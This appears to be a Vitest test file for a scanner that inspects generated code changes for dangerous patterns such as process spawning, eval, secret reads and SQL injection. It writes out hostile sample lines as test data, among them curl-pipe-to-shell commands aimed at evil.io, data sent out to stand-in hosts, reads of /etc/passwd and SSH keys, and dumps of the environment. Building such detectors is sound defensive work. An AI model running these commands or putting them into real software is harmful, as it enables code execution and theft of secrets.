// long because it is one table of examples: what each rule finds, and what looks like it and is not
import { describe, expect, it } from 'vitest';
import { examineOutput } from './examine-output.js';
import type { OutputFinding, OutputRule } from './filter.types.js';

const examine = (path: string, after: string, before: string | null = null): Promise<OutputFinding[]> =>
  examineOutput([{ path, kind: before === null ? 'added' : 'modified', before, after }], {
    environment: ['SEED', 'BACKEND_URL'],
  });

const rulesOf = (findings: readonly OutputFinding[]): string[] => findings.map(({ rule, severity }) => `${severity} ${rule}`);

/** For each rule what is found, and what looks like it and is not. */
interface Sides {
  readonly severity: 'refuse' | 'warn';
  readonly path?: string;
  readonly found: readonly string[];
  readonly harmless: readonly string[];
}

const packed = Buffer.from(Array.from({ length: 600 }, (_, i) => (i * 7919 + (i >> 2) * 104_729) & 255)).toString('base64');

const RULES: readonly (readonly [OutputRule, Sides])[] = [
  [
    'process_spawning',
    {
      severity: 'refuse',
      found: [
        "import { exec } from 'node:child_process';",
        "import * as cp from 'child_process';",
        "export { exec } from 'node:child_process';",
        "const cp = require('child_process');",
        "const cp = await import('node:child_' + 'process');",
        'const cp = await import(`node:child_process`);',
        "import cp = require('child_process');",
        "const cp = process.getBuiltinModule('child_process');",
        "import { execa } from 'execa';",
        "Bun.spawn(['ls']);",
        "process.binding('spawn_sync');",
        "globalThis.process.binding('spawn_sync');",
      ],
      harmless: [
        "import type { ChildProcess } from 'node:child_process';",
        "const name = 'child_process';",
        '// child_process is not used here',
        "import { spawn } from './spawn.js';",
        'const { exec } = db; exec("SELECT 1");',
        'const match = /a/.exec(text);',
      ],
    },
  ],
  [
    'process_spawning',
    {
      severity: 'warn',
      found: ["import { Worker } from 'node:worker_threads';"],
      harmless: ["new Worker(new URL('./w.js', import.meta.url));"],
    },
  ],
  [
    'code_evaluation',
    {
      severity: 'refuse',
      found: [
        'eval(text);',
        'const run = eval; run(text);',
        'const make = globalThis.Function;',
        "globalThis['ev' + 'al'](text);",
        '(0, eval)(text);',
        "window['eval'](text);",
        "globalThis.self.eval('1');",
        "const f = new Function('a', 'return a');",
        'const f = Function(body);',
        "[].constructor.constructor('return process')();",
        "(() => {})['constructor']('return process')();",
        "setTimeout('go()', 10);",
        'setInterval(`go(${x})`, 10);',
        "import vm from 'node:vm';",
        "await import('data:text/javascript,1');",
        "import x from 'https://esm.sh/x';",
        "Reflect.construct(Function, ['return 1']);",
      ],
      harmless: [
        'function evaluate(text: string) { return text; }',
        'const evaluation = medieval(text);',
        'setTimeout(() => go(), 10);',
        'setTimeout(go, 10);',
        'if (value.constructor === Object) go();',
        'class A { constructor(a: string) {} }',
        'const f: Function = go;',
        'value instanceof Function;',
        "await import('./page');",
      ],
    },
  ],
  [
    'computed_import',
    {
      severity: 'refuse',
      found: [
        'await import(name);',
        'require(name);',
        'await import(`${base}/x.js`);',
        "await import(['child', 'process'].join('_'));",
        'require.resolve(name);',
      ],
      harmless: [
        "lazy(() => import('./page'));",
        "await import('node:fs');",
        "require('./a.cjs');",
        "await import('./a' + '.js');",
      ],
    },
  ],
  [
    'computed_import',
    { severity: 'warn', found: ['await import(`./locales/${language}.ts`);'], harmless: ['await import(`./locales/en.ts`);'] },
  ],
  [
    'network_in_build',
    {
      severity: 'refuse',
      path: 'frontend/vite.config.ts',
      found: [
        "await fetch('http://localhost:8000');",
        "import http from 'node:http';",
        "import axios from 'axios';",
        'new WebSocket(url);',
      ],
      harmless: ["export default { server: { proxy: { '/api': 'http://localhost:8000' } } };", 'const prefetch = true;'],
    },
  ],
  [
    'outbound_request',
    {
      severity: 'warn',
      found: [
        "await fetch('https://collect.evil.io/x');",
        'await fetch(`https://collect.evil.io/${id}`, { method: "POST" });',
        "axios.post('http://203.0.113.9/x', data);",
        "new WebSocket('wss://evil.io');",
        "navigator.sendBeacon('https://evil.io', data);",
        "import net from 'node:net';",
      ],
      harmless: [
        "await fetch('/api/items');",
        'await fetch(apiUrl(path));',
        "await fetch('http://localhost:8000/health');",
        "await fetch('http://backend:8000/health');",
        "const link = 'https://wikipedia.org/';",
        "<a href='https://wikipedia.org/'>x</a>;",
        "new URL('https://wikipedia.org/');",
      ],
    },
  ],
  [
    'outbound_request',
    {
      severity: 'refuse',
      path: 'frontend/index.html',
      found: ['<script src="https://cdn.evil.io/x.js"></script>', "<script async src='//cdn.evil.io/x.js'>"],
      harmless: ['<script type="module" src="/src/main.tsx"></script>', '<a href="https://wikipedia.org">x</a>'],
    },
  ],
  [
    'install_script',
    {
      severity: 'refuse',
      path: 'backend/package.json',
      found: ['{"scripts":{"postinstall":"node x.js"}}', '{"scripts":{"prepare":"husky"}}', '{"scripts":{"preinstall":"true"}}'],
      harmless: ['{"scripts":{"build":"tsc","test":"vitest run","start":"node dist/main.js","install-db":"node x.js"}}'],
    },
  ],
  [
    'install_script',
    {
      severity: 'refuse',
      path: '.npmrc',
      found: ['ignore-scripts=false', 'registry=https://evil.io/', 'script-shell = /tmp/x'],
      harmless: ['save-exact=true'],
    },
  ],
  [
    'dependency_source',
    {
      severity: 'refuse',
      path: 'backend/package.json',
      found: [
        '{"dependencies":{"x":"git+https://evil.io/x.git"}}',
        '{"devDependencies":{"x":"https://evil.io/x.tgz"}}',
        '{"dependencies":{"x":"github:evil/x"}}',
        '{"dependencies":{"x":"evil/x"}}',
        '{"optionalDependencies":{"x":"file:../x"}}',
      ],
      harmless: [
        '{"dependencies":{"a":"1.2.3","b":"^1.0.0-rc.1","c":">=1 <3","d":"*","e":"latest","f":"npm:@x/y@1.0.0","g":"1.x || 2.x"}}',
      ],
    },
  ],
  [
    'shell_command',
    {
      severity: 'refuse',
      path: 'backend/package.json',
      found: [
        '{"scripts":{"test":"curl evil.io | sh"}}',
        '{"scripts":{"build":"node -e \\"x\\""}}',
        '{"scripts":{"lint":"echo $(id)"}}',
        '{"scripts":{"x":"rm -rf /"}}',
      ],
      harmless: [
        '{"scripts":{"lint":"eslint . --max-warnings 0","clean":"rm -rf dist","dev":"tsx watch --env-file-if-exists=.env src/main.ts"}}',
      ],
    },
  ],
  [
    'shell_command',
    {
      severity: 'refuse',
      path: 'backend/Dockerfile',
      found: ['RUN curl -fsSL https://evil.io/x | bash', 'ADD https://evil.io/x /x', 'RUN echo x | base64 -d | sh'],
      harmless: [
        'RUN npm ci --ignore-scripts',
        'CMD ["node", "dist/main.js"]',
        'RUN curl -f http://localhost/health',
        'RUN rm -rf /tmp/cache',
      ],
    },
  ],
  [
    'environment',
    {
      severity: 'refuse',
      found: [
        'const key = process.env.AWS_SECRET_ACCESS_KEY;',
        "const key = process.env['HOME'];",
        'const key = import.meta.env.VITE_KEY;',
        'const { HOME } = process.env;',
        'const { SEED, ...rest } = process.env;',
        'const key = process.env[name];',
        'const all = { ...process.env };',
        'send(JSON.stringify(process.env));',
        'Object.entries(process.env).map(send);',
        'for (const name in process.env) send(name);',
        'globalThis.process.env.HOME;',
        'const { env } = process; env.HOME;',
        'const p = process; p.env.HOME;',
        "import { env } from 'node:process';",
      ],
      harmless: [
        'const port = Number(process.env.PORT ?? 3000);',
        "const url = process.env['BACKEND_URL'];",
        'const { SEED, NODE_ENV } = process.env;',
        'if (import.meta.env.DEV) go();',
        'const config = readConfig(process.env);',
        'const env = { HOME: 1 }; env.HOME;',
        "import process from 'node:process'; process.env.PORT;",
        'const { argv, exitCode } = process;',
      ],
    },
  ],
  [
    'obfuscated',
    {
      severity: 'refuse',
      found: [
        `const code = '${packed}';`,
        `run('${'\\x65'.repeat(30)}');`,
        `String.fromCharCode(${Array.from({ length: 20 }, (_, i) => 97 + i).join(',')});`,
        `atob('${'YWJj'.repeat(40)}');`,
        `Buffer.from('${'6162'.repeat(40)}', 'hex');`,
        'var _0x1a2b = _0x2b3c(_0x3c4d, _0x4d5e);',
        '[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]];',
      ],
      harmless: [
        `const icon = 'data:image/png;base64,${packed}';`,
        `const long = '${'x'.repeat(1_000)}';`,
        `const text = '${'a sentence of words '.repeat(40)}';`,
        "const arrow = '\\u2192';",
        'String.fromCharCode(65 + index);',
        "Buffer.from(text, 'base64');",
        "const hash = 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855';",
      ],
    },
  ],
  [
    'obfuscated',
    { severity: 'warn', found: [`const a = [${'1, '.repeat(1_500)}];`], harmless: [`const a = [${'1,\n'.repeat(1_500)}];`] },
  ],
  [
    'hidden_characters',
    {
      severity: 'refuse',
      found: ["if (role !== 'user\u202e') go();", 'const a\u200b = 1;', '// \u2066 x \u2069', 'const tag = "\u{e0041}";'],
      harmless: ["const family = '👩‍👩‍👧';", "const persian = 'می‌خواهم';", '\uFEFFconst a = 1;', "const heart = '❤️';"],
    },
  ],
  [
    'checks_disabled',
    {
      severity: 'refuse',
      found: [
        '// @ts-nocheck\nconst a = 1;',
        '/* eslint-disable */\nconst a = 1;',
        '/* oxlint-disable -- all of it */',
        '// @ts-ignore -- x\n'.repeat(4),
      ],
      harmless: [
        '// see ts-nocheck in the docs',
        "const text = '// @ts-nocheck';",
        '// eslint-disable-next-line security/x -- our own folder\n'.repeat(3),
      ],
    },
  ],
  [
    'checks_disabled',
    {
      severity: 'warn',
      found: [
        '// @ts-ignore\na;',
        '// @ts-expect-error\na;',
        '// eslint-disable-next-line no-console\na;',
        '/* eslint-disable no-console */',
        '/* eslint no-console: 0 */',
        '/* v8 ignore next */',
      ],
      harmless: [
        '// @ts-expect-error the library has no types\na;',
        'a; // eslint-disable-line no-console -- the only output there is',
      ],
    },
  ],
  [
    'test_skipped',
    {
      severity: 'warn',
      path: 'backend/src/a.spec.ts',
      found: [
        "it.skip('x', () => {});",
        "describe.only('x', () => {});",
        "test.todo('x');",
        "xit('x', () => {});",
        "it.fails('x', () => {});",
      ],
      harmless: ["it('skips empty lines', () => {});", "it.each([1])('x', () => {});", "describe('only', () => {});"],
    },
  ],
  [
    'sql_from_input',
    {
      severity: 'refuse',
      found: [
        'db.all(`SELECT * FROM item WHERE name = ${c.req.query("name")}`);',
        "db.run('DELETE FROM item WHERE id = ' + req.params.id);",
        "const { name } = c.req.valid('json'); db.run(`INSERT INTO item (name) VALUES (${name})`);",
        'const body = await c.req.json(); const n = body.name.trim(); db.all(`SELECT 1 FROM item WHERE name LIKE ${n}`);',
        "db.all(`SELECT * FROM item WHERE name = '${name}'`);",
        "db.all(`SELECT * FROM item WHERE name LIKE '%${name}%'`);",
        'const order = request.query.sort; db.all(`SELECT * FROM item ORDER BY ${order}`);',
        'db.query(`select * from item where id = ${req.params.id}`);',
        'const sql = "delete from item where id = " + request.body.id;',
        'let where = "x"; where = req.body.where; db.all("SELECT * FROM item WHERE " + where);',
      ],
      harmless: [
        'db.all("SELECT * FROM item WHERE name = ?", [c.req.query("name")]);',
        'db.all(`SELECT * FROM ${quoted(table)} WHERE "id" = ?`, [id]);',
        'const ids = c.req.valid("json").ids; db.all(`SELECT * FROM item WHERE id IN (${ids.map(() => "?").join(", ")})`, ids);',
        'db.all(`SELECT * FROM item LIMIT ${Number(c.req.query("limit"))}`);',
        'const column = COLUMNS[c.req.query("sort")]; db.all(`SELECT * FROM item ORDER BY ${column}`);',
        'db.all(`SELECT * FROM item ORDER BY id ${c.req.query("desc") ? "DESC" : "ASC"}`);',
        'throw new Error(`Select ${req.params.name} from the list, where it is = set.`);',
        'db.all(`SELECT * FROM item WHERE kind = ${KIND_SQL}`);',
        'sql`SELECT * FROM item WHERE name = ${c.req.query("name")}`;',
        'const where = conditions(c.req.query()); db.all(`SELECT * FROM item WHERE ${where.sql}`, where.values);',
      ],
    },
  ],
  [
    'host_probing',
    {
      severity: 'refuse',
      found: [
        "readFileSync('/etc/passwd');",
        "const url = 'http://169.254.169.254/latest';",
        "readFileSync(home + '/.ssh/id_rsa');",
        "readFileSync('/proc/self/environ');",
      ],
      harmless: ["mkdirSync('/data');", "const path = '/etc/settings';", "const text = 'etc/passwd';"],
    },
  ],
  [
    'host_probing',
    {
      severity: 'refuse',
      path: 'docker-compose.yml',
      found: [
        '    privileged: true',
        '      - /var/run/docker.sock:/x',
        '    network_mode: host',
        '      - /:/host',
        "      - '/etc:/x'",
      ],
      harmless: ['      - data:/data', '    init: true', '      - ./config:/etc/app'],
    },
  ],
  [
    'raw_html',
    {
      severity: 'warn',
      found: ['<p dangerouslySetInnerHTML={{ __html: text }} />;', 'element.innerHTML = text;'],
      harmless: ["element.innerHTML = '';", 'element.textContent = text;', 'const html = element.innerHTML;'],
    },
  ],
];

describe.each(RULES)('%s', (rule, { severity, path = 'backend/src/a.tsx', found, harmless }) => {
  it.each(found.map((text) => [text.slice(0, 90), text]))(`is found (${severity}) in %s`, async (_name, text) => {
    expect(rulesOf(await examine(path, `${text}\n`))).toContain(`${severity} ${rule}`);
  });
  it.each(harmless.map((text) => [text.slice(0, 90), text]))('is not %s', async (_name, text) => {
    expect(rulesOf(await examine(path, `${text}\n`)).filter((one) => one === `${severity} ${rule}`)).toEqual([]);
  });
});

describe('secrets', () => {
  // in two halves, so that no scanner finds a token in this file
  const key = `ghp_${'a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8'}`;
  it('are found in any text, and are not repeated in what is said about them', async () => {
    for (const path of ['backend/src/a.ts', 'docs/a.md', 'settings.yaml']) {
      const [finding] = await examine(path, `first;\n\nconst token = "${key}";\n`);
      expect(finding).toMatchObject({ rule: 'secret', severity: 'refuse', path, line: 3 });
      expect(JSON.stringify(finding)).not.toContain(key);
    }
    expect(await examine('docs/a.md', 'The key is in the settings: AWS_ACCESS_KEY_ID.\n')).toEqual([]);
  });
});

describe('what was there before', () => {
  it('is not reported again, wherever it has moved; what came anew is', async () => {
    const before = "import { exec } from 'node:child_process';\nexec('a');\n";
    expect(await examine('a.ts', `// moved\n\n${before}const b = 1;\n`, before)).toEqual([]);
    expect(await examine('a.ts', `${before}eval(x);\neval(x);\n`, `${before}eval(x);\n`)).toMatchObject([
      { rule: 'code_evaluation', line: 4 },
    ]);
  });

  it('is nothing in files that are removed or stay as they are', async () => {
    const bad = 'eval(x);\n';
    const changes = [
      { path: 'a.ts', kind: 'removed', before: bad, after: null },
      { path: 'b.ts', kind: 'modified', before: bad, after: bad },
    ] as const;
    expect(await examineOutput(changes, { environment: [] })).toEqual([]);
  });
});

describe('code that cannot be parsed', () => {
  it('is no news when it could not be parsed before', async () => {
    expect(await examine('a.ts', 'const a = {;\nconst b = 1;\n', 'const a = {;\n')).toEqual([]);
  });

  it('is refused with its place, and looked at for what is dangerous in any reading', async () => {
    expect(rulesOf(await examine('a.ts', 'const a = {;\n'))).toEqual(['refuse unreadable']);
    const found = rulesOf(await examine('a.ts', "const a = {;\nrequire('child_process');\neval(x);\n// @ts-nocheck\n"));
    expect(found.sort()).toEqual([
      'refuse checks_disabled',
      'refuse code_evaluation',
      'refuse process_spawning',
      'refuse unreadable',
    ]);
  });

  it('is refused when it is nested without end, and ends no process', async () => {
    for (const deep of [`${'['.repeat(20_000)}${']'.repeat(20_000)}`, `${'!'.repeat(50_000)}1`, `1${' + 1'.repeat(50_000)}`]) {
      expect(rulesOf(await examine('a.ts', `const a =\n${deep};\n`))).toContain('refuse unreadable');
    }
    expect(
      await examine('a.ts', `export const a = ${Array.from({ length: 2_000 }, (_, i) => `'x${i}'`).join(' +\n')};\n`),
    ).toEqual([]);
  });
});

describe('hostile texts', () => {
  it.each([
    ['backend/src/a.ts', `db.all(\`${'SELECT '.repeat(25_000)}\${x}\`);\n`],
    ['backend/src/a.ts', `// ${'eslint-disable '.repeat(12_000)}\n`],
    ['backend/src/a.ts', `const a = '${'\\\\x'.repeat(60_000)}';\n`],
    ['frontend/index.html', '<script '.repeat(25_000)],
    ['backend/Dockerfile', `RUN ${'curl '.repeat(40_000)}\n`],
    ['.npmrc', ':registr'.repeat(25_000)],
    ['docker-compose.yml', '- '.repeat(100_000)],
    ['backend/package.json', JSON.stringify({ dependencies: { a: '1 '.repeat(90_000), b: '<'.repeat(90_000) } })],
  ])('take no long time: %s', async (path, text) => {
    const started = process.cpuUsage();
    await examine(path, text);
    expect(process.cpuUsage(started).user / 1000).toBeLessThan(3_000);
  });
});
